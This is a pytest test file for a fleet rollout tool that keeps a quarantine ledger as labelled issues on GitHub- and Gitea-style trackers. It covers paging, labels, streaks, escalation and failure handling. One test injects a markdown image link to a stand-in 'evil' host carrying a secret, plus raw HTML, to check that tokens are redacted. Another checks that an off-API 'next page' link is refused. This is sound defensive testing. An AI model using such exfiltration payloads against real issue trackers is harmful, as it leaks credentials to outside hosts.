"""The quarantine ledger on the forge: the forge client's issue calls and the ledger kept through them,
against the sandbox's issue tracker in GitHub's and Gitea 1.22's shapes (and a fault server for a list
that points elsewhere)."""

from __future__ import annotations

import pytest
from faultservers import json_reply
from support import SHA, TAG, StepRun, run_step

from fleet import forge, ledger
from fleet.contract import BadInput
from fleet.forge import Forge, ForgeError, Where
from fleet.quarantine import LedgerSettings, Record, keep, ledger_settings, merged, run_url, summary
from rollout.cli import main as rollout_main
from sandbox import Sandbox, load_scenario

LABEL = "fleet-quarantine"
WHERE = Where("acme/platform", "main")
RUN = "http://forge.example/acme/platform/actions/runs/7"
DIALECTS = ["github", "gitea"]


def eight() -> dict:
    return {"tenants": [{"slug": s} for s in ("acme", "birch", "reno-stars", "cobalt")]}


def client(sb: Sandbox, dialect: str, token: str | None = None) -> Forge:
    url = sb.github_api_url if dialect == "github" else sb.gitea_api_url
    return Forge(url, sb.forge_token if token is None else token, allow_http=False, ca_bundle=None)


def quarantined(*slugs: str, reason: str = "healthz answered 503", redeployed: tuple[str, ...] = ()) -> ledger.Run:
    return ledger.Run(
        f"sha-{SHA}", SHA, RUN, True, {s: reason for s in slugs}, frozenset(redeployed),
        {s: f"CP_TOKEN=... python -m rollout --slugs {s}" for s in slugs},
    )  # fmt: skip


def redeployed(*slugs: str) -> ledger.Run:
    return ledger.Run(f"sha-{SHA}", SHA, RUN, True, {}, frozenset(slugs))


ON = LedgerSettings(True, LABEL, None)


def issue_calls(sb: Sandbox) -> list[tuple[str, str]]:
    return [(c["method"], c["path"].split("/repos/acme/platform", 1)[1].split("?")[0]) for c in sb.forge_calls]


# -- the forge client ---------------------------------------------------------------------------------


@pytest.mark.parametrize("dialect", DIALECTS)
def test_the_issue_list_reads_every_page_and_leaves_out_pull_requests_and_other_labels(start, dialect):
    # The ledger's own issue is the oldest, so it comes on the last page; the pull requests carry the label too.
    mine = {"title": "fleet-rollout: tenant reno-stars is quarantined", "labels": [LABEL]}
    others = [{"title": f"fleet-rollout: tenant t{n} is quarantined", "labels": [LABEL]} for n in range(110)]
    unlabelled = {"title": "fleet-rollout: tenant birch is quarantined", "labels": ["bug"]}
    sb = start(dict(eight(), forge={"issues": [mine, *others, unlabelled], "pull_requests": 40}))

    issues = client(sb, dialect).issues(WHERE, LABEL)

    assert len(issues) == 111 and not any("pull request" in i.title for i in issues)
    assert "fleet-rollout: tenant birch is quarantined" not in {i.title for i in issues}
    assert issues[-1].title == mine["title"] and issues[-1].url.endswith("/issues/1")
    lists = [c for c in sb.forge_calls if c["path"].split("?")[0].endswith("/issues")]
    if dialect == "github":
        assert len(lists) == 2 and lists[0]["query"] == {"state": "open", "labels": LABEL, "per_page": "100"}
    else:
        assert len(lists) == 3 and lists[0]["query"] == {
            "state": "open", "labels": LABEL, "type": "issues", "limit": "50"
        }  # fmt: skip
        assert issue_calls(sb)[0] == ("GET", "/labels")  # the label first: an unknown one filters nothing


def test_on_gitea_every_item_carries_pull_request_and_only_a_null_one_is_an_issue(start):
    sb = start(dict(eight(), forge={"issues": [{"title": "t", "labels": [LABEL]}], "pull_requests": 3}))
    # the label filter alone (no type=issues) would list the pull requests too: each is recognised
    gitea = client(sb, "gitea")
    url = f"{sb.gitea_api_url}/repos/acme/platform/issues?labels={LABEL}"
    assert len(gitea._pages(url, "the issues")) == 4
    assert [i.title for i in gitea.issues(WHERE, LABEL)] == ["t"]


def test_on_gitea_without_the_label_there_is_no_issue_of_the_ledger_and_no_list(start):
    sb = start(dict(eight(), forge={"issues": [{"title": "fleet-rollout: tenant acme is quarantined"}]}))
    assert client(sb, "gitea").issues(WHERE, LABEL) == []
    assert issue_calls(sb) == [("GET", "/labels")]


@pytest.mark.parametrize("dialect", DIALECTS)
def test_an_issue_opens_with_the_label_by_name_on_github_and_by_id_on_gitea(start, dialect):
    sb = start(dict(eight(), forge={"labels": ["bug"]}))
    forge_ = client(sb, dialect)

    issue = forge_.open_issue(WHERE, "fleet-rollout: tenant acme is quarantined", "body", LABEL)
    again = forge_.open_issue(WHERE, "fleet-rollout: tenant birch is quarantined", "body", LABEL)

    assert (issue.number, again.number) == (1, 2) and issue.url.endswith("/issues/1")
    assert [i["labels"] for i in sb.issues] == [[LABEL], [LABEL]]
    creates = [c for c in sb.forge_calls if c["method"] == "POST" and c["path"].endswith("/issues")]
    if dialect == "github":
        assert [c["body"]["labels"] for c in creates] == [[LABEL], [LABEL]]
        assert not any(c["path"].endswith("/labels") for c in sb.forge_calls)
    else:
        label_id = next(label["id"] for label in sb.labels if label["name"] == LABEL)
        assert [c["body"]["labels"] for c in creates] == [[label_id], [label_id]]  # ids, never names
        made = [c for c in sb.forge_calls if c["method"] == "POST" and c["path"].endswith("/labels")]
        assert len(made) == 1 and made[0]["body"]["color"] == forge.LABEL_COLOR  # created once, then found


def test_the_sandbox_refuses_a_gitea_create_with_label_names(start):
    sb = start(eight())
    gitea = client(sb, "gitea")
    with pytest.raises(ForgeError) as refused:
        gitea._call("POST", "/repos/acme/platform/issues", "opening the issue", {"title": "t", "labels": [LABEL]})
    assert str(refused.value) == "opening the issue answered HTTP 422"


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_comment_and_an_edit_are_done_on_200_and_on_gitea_201(start, dialect):
    sb = start(dict(eight(), forge={"issues": [{"title": "t", "labels": [LABEL], "body": "old"}]}))
    forge_ = client(sb, dialect)
    assert forge_.comment(WHERE, 1, "again").endswith("#issuecomment-2")
    forge_.edit(WHERE, 1, body="new")
    forge_.edit(WHERE, 1, state="closed")
    assert sb.issues[0]["body"] == "new" and sb.issues[0]["state"] == "closed"
    edits = [c["status"] for c in sb.forge_calls if c["method"] == "PATCH"]
    assert edits == ([200, 200] if dialect == "github" else [201, 201])


@pytest.mark.parametrize(
    ("faults", "said"),
    [
        ({"issues_status": 403}, "reading the labels answered HTTP 403 (the api-token lacks permission)"),
        ({"issues_status": 500}, "reading the labels answered HTTP 500"),
        ({"issue_write_status": 403}, "creating the label 'fleet-quarantine' answered HTTP 403 (the api-token lacks "
         "permission: issues: write on GitHub, write:issue on Gitea)"),
        ({"issues_delay": 3}, "reading the labels failed: timed out"),
    ],
)  # fmt: skip
def test_a_failing_issue_call_is_a_forge_error_of_one_line_without_the_token(start, monkeypatch, faults, said):
    monkeypatch.setattr(forge, "READ_SECONDS", 0.5)
    sb = start(dict(eight(), forge=faults))
    with pytest.raises(ForgeError) as failed:
        client(sb, "gitea").open_issue(WHERE, "t", "b", LABEL)
    assert str(failed.value) == said and sb.forge_token not in str(failed.value)


FIRST_PAGE = "/repos/acme/platform/issues?state=open&labels=fleet-quarantine&per_page=100"


def test_a_next_page_outside_the_forges_api_is_never_followed(serve):
    page = json_reply([], headers=['Link: <http://198.51.100.7/repos/acme/platform/issues?page=2>; rel="next"'])
    server = serve({FIRST_PAGE: page})
    with pytest.raises(ForgeError, match="next page is outside the forge's API"):
        Forge(server.url, "forge-token", allow_http=False, ca_bundle=None).issues(WHERE, LABEL)
    assert len(server.requests) == 1


def test_a_list_that_never_ends_stops_after_the_page_bound(serve, monkeypatch):
    monkeypatch.setattr(forge, "MAX_PAGES", 3)
    server = serve({})
    server.route(FIRST_PAGE, json_reply([], headers=[f'Link: <{server.url}{FIRST_PAGE}>; rel="next"']))
    with pytest.raises(ForgeError, match="the open issues run past 3 pages"):
        Forge(server.url, "forge-token", allow_http=False, ca_bundle=None).issues(WHERE, LABEL)


# -- the ledger kept on the forge ---------------------------------------------------------------------


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_first_quarantine_opens_one_issue_a_second_comments_and_a_redeploy_closes_it(start, dialect):
    sb = start(eight())
    forge_ = client(sb, dialect)

    first = keep(forge_, WHERE, ON, quarantined("reno-stars"))
    second = keep(forge_, WHERE, ON, quarantined("reno-stars"))

    assert [e["action"] for e in first.issues] == ["opened"] and first.streaks == {"reno-stars": 1}
    assert [e["action"] for e in second.issues] == ["commented"] and second.streaks == {"reno-stars": 2}
    (issue,) = sb.issues
    assert issue["title"] == "fleet-rollout: tenant reno-stars is quarantined" and issue["labels"] == [LABEL]
    assert ledger.read_streak(issue["body"]) == 2 and "quarantined by 2 rollouts in a row" in issue["body"]
    assert "quarantined by 2 rollouts in a row" in issue["comments"][0]["body"]
    assert first.warnings == second.warnings == []

    untouched = keep(forge_, WHERE, ON, redeployed("birch"))
    assert untouched.issues == [] and sb.issues[0]["state"] == "open"  # not this tenant: left alone

    closed = keep(forge_, WHERE, ON, redeployed("reno-stars", "birch"))
    assert [(e["tenant"], e["action"]) for e in closed.issues] == [("reno-stars", "closed")]
    assert sb.issues[0]["state"] == "closed" and SHA in sb.issues[0]["comments"][-1]["body"]
    assert RUN in sb.issues[0]["comments"][-1]["body"]

    # the streak ended with it: quarantined again, a new issue at streak 1
    again = keep(forge_, WHERE, ON, quarantined("reno-stars"))
    assert [e["action"] for e in again.issues] == ["opened"] and again.streaks == {"reno-stars": 1}
    assert len(sb.issues) == 2


def test_a_run_that_did_not_ship_or_a_ledger_that_is_off_calls_nothing(start):
    sb = start(eight())
    systemic = ledger.Run("t", SHA, RUN, False, {"reno-stars": "x"})
    assert keep(client(sb, "github"), WHERE, ON, systemic).part()["issues"] == []
    assert keep(client(sb, "github"), WHERE, LedgerSettings(False, LABEL, None), quarantined("acme")).issues == []
    assert sb.forge_calls == []


@pytest.mark.parametrize("dialect", DIALECTS)
def test_at_the_streak_limit_the_tenant_is_chronic_with_its_issue(start, dialect):
    sb = start(eight())
    limit = LedgerSettings(True, LABEL, 2)
    assert keep(client(sb, dialect), WHERE, limit, quarantined("reno-stars", "birch")).chronic == []
    record = keep(client(sb, dialect), WHERE, limit, quarantined("reno-stars"))
    assert record.chronic == ["reno-stars"]
    (line,) = record.escalation()
    assert line.startswith("tenant reno-stars has been quarantined by 2 rollouts in a row (max-quarantine-streak 2)")
    assert line.endswith(sb.issues[0]["html_url"])
    assert record.part()["chronic"] == ["reno-stars"] and record.part()["escalation_checked"] is True


def test_a_streak_a_person_edited_away_counts_as_1_again_with_a_warning(start):
    sb = start(eight())
    forge_ = client(sb, "github")
    keep(forge_, WHERE, ON, quarantined("reno-stars"))
    forge_.edit(WHERE, 1, body="I fixed the volume, it should be fine now.")

    record = keep(forge_, WHERE, LedgerSettings(True, LABEL, 2), quarantined("reno-stars"))

    assert record.streaks == {"reno-stars": 1} and record.chronic == []
    assert (
        len(record.warnings) == 1
        and "is unreadable" in record.warnings[0]
        and "counts as 1 again" in record.warnings[0]
    )
    assert ledger.read_streak(sb.issues[0]["body"]) == 1 and sb.issues[0]["body"].startswith("I fixed the volume")


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("faults", [{"issues_status": 403}, {"issues_status": 500}, {"issue_write_status": 403}])
def test_a_tracker_that_fails_is_one_warning_and_skips_the_escalation_check(start, dialect, faults):
    sb = start(eight())
    limit = LedgerSettings(True, LABEL, 1)
    sb.set_issue_faults(**faults)

    record = keep(client(sb, dialect), WHERE, limit, quarantined("reno-stars"))

    assert record.chronic == [] and record.escalation() == [] and record.part()["escalation_checked"] is False
    (warning,) = record.warnings
    assert warning.startswith("the quarantine ledger could not record the quarantine of reno-stars: ")
    assert f"HTTP {faults.get('issues_status') or faults['issue_write_status']}" in warning
    assert warning.endswith("; the max-quarantine-streak check was skipped")
    assert sb.forge_token not in warning


def test_a_github_token_that_may_not_create_the_label_is_a_warning_and_no_unlabelled_issue(start):
    sb = start(dict(eight(), forge={"new_label_status": 403}))
    record = keep(client(sb, "github"), WHERE, ON, quarantined("reno-stars"))
    assert sb.issues == [] and record.issues == []
    assert "opening the issue answered HTTP 403 (the api-token lacks permission" in record.warnings[0]
    assert not record.warnings[0].endswith("skipped")  # no streak limit: no check to skip


def test_a_failure_part_way_names_what_was_left_unrecorded(start):
    sb = start(dict(eight(), forge={"issues": [{"title": ledger.title("birch"), "labels": [LABEL]}]}))
    sb.set_issue_faults(issue_write_status=500)
    record = keep(client(sb, "github"), WHERE, ON, quarantined("reno-stars", redeployed=("birch",)))
    assert record.warnings == [
        "the quarantine ledger could not record the quarantine of reno-stars and the redeploy of birch (closing any "
        "open issue): opening the issue answered HTTP 500"
    ]


def test_no_token_reaches_an_issue_a_comment_or_the_record(start):
    sb = start(eight())
    secret = "cp-" + "5e" * 12
    from fleet import runner

    runner.register_secret(secret)
    forge_ = client(sb, "gitea")
    run = quarantined("reno-stars", reason=f"@team see ![x](http://evil/{secret}) <img src=x> token {secret}")
    records = [keep(forge_, WHERE, ON, run), keep(forge_, WHERE, ON, run)]
    texts = [sb.issues[0]["body"], *(c["body"] for c in sb.issues[0]["comments"]), repr([r.part() for r in records])]
    for text in texts:
        assert secret not in text and sb.forge_token not in text
    assert (
        "@team" not in sb.issues[0]["body"] and "<img" not in sb.issues[0]["body"] and "![" not in sb.issues[0]["body"]
    )
    sent = repr([c["body"] for c in sb.forge_calls])
    assert secret not in sent and sb.forge_token not in sent


def test_the_ledgers_inputs_are_checked_before_any_call():
    base = {"quarantine-issues": "true", "quarantine-label": LABEL, "max-quarantine-streak": ""}
    assert ledger_settings(base) == LedgerSettings(True, LABEL, None)
    assert ledger_settings(base | {"max-quarantine-streak": "3"}).limit == 3
    assert ledger_settings({"quarantine-issues": "false", "quarantine-label": LABEL}).on is False  # verify's values
    for bad, said in [
        ({"max-quarantine-streak": "0"}, "max-quarantine-streak must be an integer >= 1"),
        ({"max-quarantine-streak": "two"}, "max-quarantine-streak must be an integer >= 1"),
        ({"quarantine-issues": "false", "max-quarantine-streak": "2"}, "needs quarantine-issues: true"),
        ({"quarantine-label": "a,b"}, "quarantine-label must be 1 to 50 printable characters"),
        ({"quarantine-label": ""}, "quarantine-label must be"),
        ({"quarantine-issues": "maybe"}, "quarantine-issues must be true or false"),
    ]:
        with pytest.raises(BadInput, match=said):
            ledger_settings(base | bad)


def test_the_run_url_is_the_runs_page_or_says_there_is_none():
    env = {"GITHUB_SERVER_URL": "https://github.com/", "GITHUB_REPOSITORY": "acme/platform", "GITHUB_RUN_ID": "9"}
    assert run_url(env) == "https://github.com/acme/platform/actions/runs/9"
    assert run_url({}) == "a run outside Actions (no GITHUB_RUN_ID)"


def test_a_second_step_adds_its_closes_and_warnings_to_the_rollouts_part():
    rollout = Record(LABEL, 2, [{"tenant": "a", "action": "opened", "number": 1, "url": "u1", "streak": 2}], {"a": 2})
    verify = Record(LABEL, None, [{"tenant": "b", "action": "closed", "number": 2, "url": "u2"}], warnings=["w"])
    part = merged(rollout.part(), verify)
    assert [e["action"] for e in part["issues"]] == ["opened", "closed"] and part["warnings"] == ["w"]
    assert part["chronic"] == ["a"] and part["max_streak"] == 2
    assert merged(None, verify) == verify.part()
    shown = summary(part)
    assert "`a`: issue #1 opened, streak 2: u1" in shown and "`b`: issue #2 closed: u2" in shown and "⚠️ w" in shown
    assert summary(Record(LABEL, None).part()) == ""


# -- the steps keep it ----------------------------------------------------------------------------------


@pytest.fixture
def step(tmp_path, capsys, monkeypatch):
    """Run `python -m rollout` in-process as a runner would, with the ledger kept on the sandbox's forge."""
    for name in ("GITHUB_REF", "PROD_AUTO_DEPLOY_MAX_STRAGGLERS", "PROD_AUTO_DEPLOY_DISABLED"):
        monkeypatch.delenv(name, raising=False)
    runs = iter(range(1, 100))

    def _run(sb: Sandbox, dialect: str, *flags: str) -> StepRun:
        env = {
            "GITHUB_REPOSITORY": "acme/platform", "GITHUB_REF_NAME": "main", "GITHUB_REF_TYPE": "branch",
            "API_TOKEN": sb.forge_token, "GITHUB_SERVER_URL": "https://forge.example", "GITHUB_RUN_ID": str(next(runs)),
        }  # fmt: skip
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        argv = [
            "--cp-url", sb.url, "--target-tag", TAG, "--expected-sha", SHA, "--soak-seconds", "0",
            "--api-url", sb.github_api_url if dialect == "github" else sb.gitea_api_url,
            "--tenant-url-template", sb.tenant_url_template, "--poll-interval-seconds", "0.2",
            "--verify-timeout-seconds", "10", "--report", str(tmp_path / "report.json"),
            "--quarantine-issues", "true", *flags,
        ]  # fmt: skip
        return run_step(rollout_main, argv, tmp_path=tmp_path, capsys=capsys, monkeypatch=monkeypatch, token=sb.token)

    return _run


def incident() -> dict:
    spec = load_scenario("incident")
    spec["forge"] = {"repository": "acme/platform", "branch": "main", "head": SHA}
    return spec


@pytest.mark.parametrize("dialect", DIALECTS)
def test_the_steps_open_comment_escalate_and_the_recovery_command_closes(start, step, dialect):
    sb = start(incident())
    first = step(sb, dialect, "--canary-slug", "acme", "--max-quarantine-streak", "2")
    assert first.code == 0 and first.report["rollout"]["verdict"] == "shipped-with-quarantine"
    assert [(e["tenant"], e["action"], e["streak"]) for e in first.report["ledger"]["issues"]] == [
        ("reno-stars", "opened", 1)
    ]
    assert "### Quarantine ledger" in first.summary and "issue #1 opened, streak 1" in first.summary
    assert "- **Run:** https://forge.example/acme/platform/actions/runs/1" in sb.issues[0]["body"]

    second = step(sb, dialect, "--canary-slug", "acme", "--max-quarantine-streak", "2")

    # Shipped to every other tenant, then failed: one ::error:: names the tenant, its streak and its issue.
    assert second.code == 1 and second.outputs["ok"] == "false"
    assert second.report["rollout"]["verdict"] == second.report["verdict"] == "shipped-with-chronic-straggler"
    assert second.report["ledger"]["chronic"] == ["reno-stars"] and len(sb.issues) == 1
    assert all(sb.tenant_state(s)["serving_sha"] == SHA for s in sb.slugs if s != "reno-stars")
    (error,) = second.errors()
    assert "tenant reno-stars has been quarantined by 2 rollouts in a row (max-quarantine-streak 2)" in error
    assert error.endswith(sb.issues[0]["html_url"])
    assert second.report["rollout"]["follow"] == "check"  # the fleet shipped: verify checks it all the same

    sb.set_behaviour("reno-stars", "healthy")
    recovery = step(sb, dialect, "--slugs", "reno-stars", "--max-stragglers", "0", "--verify", "true")

    assert recovery.code == 0, recovery.log
    closed = [e for e in recovery.report["ledger"]["issues"] if e["action"] == "closed"]
    assert [e["tenant"] for e in closed] == ["reno-stars"] and sb.issues[0]["state"] == "closed"
    assert "https://forge.example/acme/platform/actions/runs/3" in sb.issues[0]["comments"][-1]["body"]
    for text in (recovery.log, repr(recovery.report), repr(sb.issues), first.log, second.log):
        assert sb.token not in text and sb.forge_token not in text


def test_the_recovery_command_names_the_ledgers_forge(start, step):
    sb = start(incident())
    run = step(sb, "github", "--canary-slug", "acme")
    assert f"--quarantine-issues true --api-url {sb.github_api_url} --slugs reno-stars" in run.report["recovery"]


def test_a_verify_that_fails_closes_nothing(start, step):
    sb = start(incident())
    step(sb, "github", "--slugs", "acme,reno-stars", "--max-stragglers", "1")  # birch keeps its old build
    sb.set_behaviour("reno-stars", "healthy")
    sb.set_behaviour("birch", "stale")  # the control plane says it moved; it still serves the old build
    run = step(sb, "github", "--slugs", "reno-stars,birch", "--max-stragglers", "0", "--verify", "true",
               "--verify-timeout-seconds", "1")  # fmt: skip
    assert run.code == 1 and run.report["rollout"]["verdict"] == "shipped" and run.report["verify"]["ok"] is False
    # reno-stars was redeployed and verified, but by a run that did not succeed: its issue stays open
    assert sb.issues[0]["state"] == "open" and run.report["ledger"]["issues"] == []


@pytest.mark.parametrize("faults", [{"issues_status": 403}, {"issues_status": 500}])
def test_a_tracker_that_fails_leaves_the_verdict_and_the_exit_code_as_they_were(start, step, faults):
    sb = start(incident())
    sb.set_issue_faults(**faults)
    run = step(sb, "gitea", "--canary-slug", "acme", "--max-quarantine-streak", "1", "--verify", "true")
    assert run.code == 0 and run.report["verdict"] == "shipped-with-quarantine" and run.report["verify"]["ok"]
    # one warning: the verify step that follows leaves a tracker that just failed alone
    ledger_warnings = [w for w in run.warnings() if "quarantine ledger" in w]
    assert len(ledger_warnings) == 1 and ledger_warnings[0].endswith("the max-quarantine-streak check was skipped")
    assert run.report["ledger"]["escalation_checked"] is False and run.report["ledger"]["chronic"] == []


def test_a_systemic_rollout_opens_no_issue_and_adds_no_comment(start, step):
    spec = incident()
    body = "<!-- fleet-rollout:streak=1 -->"
    spec["forge"]["issues"] = [{"title": ledger.title("reno-stars"), "labels": [LABEL], "body": body}]
    sb = start(spec)
    run = step(sb, "github", "--canary-slug", "acme", "--max-stragglers", "0")
    assert run.code == 1 and run.report["rollout"]["verdict"] == "systemic"
    assert sb.forge_calls == [c for c in sb.forge_calls if "/issues" not in c["path"]]  # no issue call at all
    assert sb.issues[0]["comments"] == [] and len(sb.issues) == 1


def test_a_dry_run_or_a_run_limited_to_other_tenants_leaves_the_issue_and_its_streak(start, step):
    spec = incident()
    body = "<!-- fleet-rollout:streak=4 -->"
    spec["forge"]["issues"] = [{"title": ledger.title("reno-stars"), "labels": [LABEL], "body": body}]
    sb = start(spec)
    step(sb, "github", "--canary-slug", "acme", "--dry-run")
    step(sb, "github", "--slugs", "birch,cobalt", "--max-stragglers", "0")
    assert sb.issues[0]["state"] == "open" and sb.issues[0]["body"] == body and sb.issues[0]["comments"] == []
